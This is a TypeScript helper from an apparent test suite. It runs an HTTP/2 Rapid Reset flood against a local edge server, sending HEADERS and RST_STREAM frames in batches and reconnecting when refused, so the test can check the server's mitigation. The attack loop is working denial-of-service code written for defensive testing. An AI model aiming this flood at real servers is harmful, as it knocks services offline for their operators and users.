// A Rapid Reset attacker in a process of its own (so that its busy loop does not slow the test's
// own requests, whose latency is measured): connects to the edge's TLS port as `alpha.test` from
// 127.0.0.61, sends HEADERS + RST_STREAM by the hundred until the edge ends the connection, and
// reconnects at once (refused, it tries again 20 ms later), for the given seconds. Prints the
// number of connections it made and of those refused.
// Usage: node --import tsx h2-rapid-reset-attacker.ts PORT SECONDS
import { FLAG, RawH2, headerBlock, headers, requestFields, rstStream } from './h2-frames.ts';

const [port, seconds] = process.argv.slice(2).map(Number) as [number, number];
const started = performance.now();
let connections = 0;
let refused = 0;
while (performance.now() - started < seconds * 1000) {
  // Cut off for its flood, the attacker is refused for a while: it keeps trying, a little apart.
  const c = await RawH2.open(port, 'alpha.test', '127.0.0.61').catch(() => undefined);
  if (!c) {
    refused++;
    await new Promise((r) => setTimeout(r, 20));
    continue;
  }
  connections++;
  let id = 1;
  while (!c.closed && c.goaway === undefined && performance.now() - started < seconds * 1000) {
    if (!c.socket.writableNeedDrain) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50; i++, id += 2) batch.push(headers(id, headerBlock(requestFields('alpha.test', `/rrl-${id}`)), FLAG.END_HEADERS | FLAG.END_STREAM), rstStream(id));
      c.send(Buffer.concat(batch));
    }
    await new Promise((r) => setImmediate(r));
  }
  c.close();
}
console.log(`${connections} ${refused}`);
